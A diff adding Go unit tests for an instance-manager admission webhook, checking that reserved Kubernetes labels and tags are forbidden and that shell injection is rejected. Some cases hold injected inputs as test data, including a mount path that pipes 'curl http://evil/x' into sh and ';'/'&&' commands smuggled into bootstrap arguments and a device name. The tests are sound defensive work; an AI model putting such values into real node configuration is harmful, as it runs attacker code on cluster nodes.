@@ -1,0 +1,73 @@
+package webhooks
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/instancemgr/instance-manager/api/v1alpha1"
+)
+
+func TestValidateTenantInput(t *testing.T) {
+	cases := []struct {
+		name   string
+		mutate func(*v1alpha1.InstanceGroup)
+		want   string // substring of the error; "" = valid
+	}{
+		{"a plain label", func(ig *v1alpha1.InstanceGroup) { ig.Spec.EKS.Configuration.Labels = map[string]string{"team": "a"} }, ""},
+		{"a kubelet-settable label", func(ig *v1alpha1.InstanceGroup) {
+			ig.Spec.EKS.Configuration.Labels = map[string]string{"node.kubernetes.io/instance-type": "m5.large", "topology.kubernetes.io/zone": "a"}
+		}, ""},
+		{"a control-plane role label", func(ig *v1alpha1.InstanceGroup) {
+			ig.Spec.EKS.Configuration.Labels = map[string]string{"node-role.kubernetes.io/control-plane": ""}
+		}, "spec.eks.configuration.labels[node-role.kubernetes.io/control-plane]: Forbidden: the kubernetes.io/ and k8s.io/ prefixes are reserved"},
+		{"another group's label", func(ig *v1alpha1.InstanceGroup) {
+			ig.Spec.EKS.Configuration.Labels = map[string]string{"instancemgr.keikoproj.io/namespace": "payments"}
+		}, "labels[instancemgr.keikoproj.io/namespace]: Forbidden: the instancemgr.keikoproj.io/ prefix is reserved"},
+		{"a node-restriction label", func(ig *v1alpha1.InstanceGroup) {
+			ig.Spec.EKS.Configuration.Labels = map[string]string{"node-restriction.kubernetes.io/team": "a"}
+		}, "Forbidden"},
+		{"an ownership tag", func(ig *v1alpha1.InstanceGroup) {
+			ig.Spec.EKS.Configuration.Tags = []map[string]string{{"key": "instancemgr.keikoproj.io/instancegroup", "value": "payments/web"}}
+		}, "spec.eks.configuration.tags[0].key: Forbidden: tag keys starting with instancemgr.keikoproj.io/"},
+		{"a cluster tag", func(ig *v1alpha1.InstanceGroup) {
+			ig.Spec.EKS.Configuration.Tags = []map[string]string{{"key": "kubernetes.io/cluster/prod", "value": "owned"}}
+		}, "tag keys starting with kubernetes.io/cluster/"},
+		{"shell in bootstrap arguments", func(ig *v1alpha1.InstanceGroup) {
+			ig.Spec.EKS.Configuration.BootstrapArguments = "--kubelet-extra-args '--v=2' ; id > /tmp/pwned"
+		}, "spec.eks.configuration.bootstrapArguments: Invalid value"},
+		{"the seed's bootstrap arguments", func(ig *v1alpha1.InstanceGroup) {
+			ig.Spec.EKS.Configuration.BootstrapArguments = "--kubelet-extra-args=--v=2"
+		}, ""},
+		{"shell in a mount path", func(ig *v1alpha1.InstanceGroup) {
+			ig.Spec.EKS.Configuration.Volumes = []v1alpha1.NodeVolume{{Name: "/dev/xvdb", MountOptions: &v1alpha1.NodeVolumeMountOptions{FileSystem: "xfs", Mount: "/data; curl http://evil/x | sh #"}}}
+		}, "spec.eks.configuration.volumes[0].mountOptions.mount"},
+		{"a device that is not one", func(ig *v1alpha1.InstanceGroup) {
+			ig.Spec.EKS.Configuration.Volumes = []v1alpha1.NodeVolume{{Name: "xvdb && id"}}
+		}, "spec.eks.configuration.volumes[0].name"},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			ig := validEKS()
+			tc.mutate(ig)
+			errs, _ := ValidateInstanceGroup(ig)
+			got := errs.ToAggregate()
+			switch {
+			case tc.want == "" && got != nil:
+				t.Errorf("unexpected error: %v", got)
+			case tc.want != "" && (got == nil || !strings.Contains(got.Error(), tc.want)):
+				t.Errorf("error = %v, want one containing %q", got, tc.want)
+			}
+		})
+	}
+}
+
+func TestValidateFargateAndManagedTags(t *testing.T) {
+	ig := &v1alpha1.InstanceGroup{Spec: v1alpha1.InstanceGroupSpec{Provisioner: v1alpha1.ProvisionerEKSFargate,
+		Strategy: v1alpha1.AwsUpgradeStrategy{Type: v1alpha1.StrategyManaged},
+		EKSFargate: &v1alpha1.EKSFargateSpec{ClusterName: "c", Subnets: []string{"s"}, Selectors: []v1alpha1.EKSFargateSelector{{Namespace: "a"}},
+			Tags: map[string]string{"instancemgr.keikoproj.io/instancegroup": "x"}}}}
+	errs, _ := ValidateInstanceGroup(ig)
+	if got := errs.ToAggregate(); got == nil || !strings.Contains(got.Error(), "spec.eks-fargate.tags[instancemgr.keikoproj.io/instancegroup]") {
+		t.Errorf("error = %v", got)
+	}
+}
